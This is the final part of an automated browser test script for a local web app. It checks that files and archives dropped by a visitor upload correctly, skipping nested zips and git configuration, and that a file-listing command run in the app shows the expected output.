				await wide.click('#veil', { position: { x: width - 5, y: 200 } });
				assert.ok(await wide.isHidden('#side'));
			}
		}
		await wide.context().close();
	}
});

await step('a visitor drops a folder, a file and an archive', async () => {
	const made = mkdtempSync(join(tmpdir(), 'dropped-')), folder = join(made, 'project');
	for (const [path, text] of [['a.txt', 'one'], ['src/deep/b & c #1.txt', 'two'], ['src/inner.zip', 'not unpacked'], ['.git/config', 'not sent']]) {
		mkdirSync(join(folder, path, '..'), { recursive: true });
		writeFileSync(join(folder, path), text);
	}
	for (let number = 0; number < 120; number++) writeFileSync(join(folder, `many-${number}.txt`), '');
	writeFileSync(join(made, 'plain.txt'), 'three');
	execFileSync('python3', ['-c', 'import sys, zipfile; zipfile.ZipFile(sys.argv[1], "w").writestr("in/zip.txt", "four")', join(made, 'some.zip')]);
	const { child, address: open } = await serve('127.0.0.1:0', '--visitors');
	const visitor = await tab({}, open);
	await visitor.waitForSelector('#upload:not([hidden])');
	const session = await visitor.context().newCDPSession(visitor);
	const data = { items: [], files: [folder, join(made, 'plain.txt'), join(made, 'some.zip')], dragOperationsMask: 1 };
	for (const type of ['dragEnter', 'dragOver', 'drop']) await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data });
	await visitor.waitForFunction(() => /^125 files/.test(document.getElementById('banner').textContent));
	await visitor.fill('#command', 'find . -type f ! -name "many-*" | sort; cat project/src/deep/* in/zip.txt');
	await visitor.press('#command', 'Enter');
	await visitor.waitForFunction(() => /exit 0/.test(document.getElementById('runs').innerText));
	assert.equal(await visitor.innerText('#runs pre'), './in/zip.txt\n./plain.txt\n./project/a.txt\n./project/src/deep/b & c #1.txt\n./project/src/inner.zip\ntwofour');
	await visitor.context().close();
	child.kill('SIGTERM');
	rmSync(made, { recursive: true });
});

server.kill('SIGTERM');
await browser.close();
assert.ok(existsSync(join(SHOTS, 'chat.png')) && readdirSync(SHOTS).length > 20);
console.log('done');
process.exit(0);
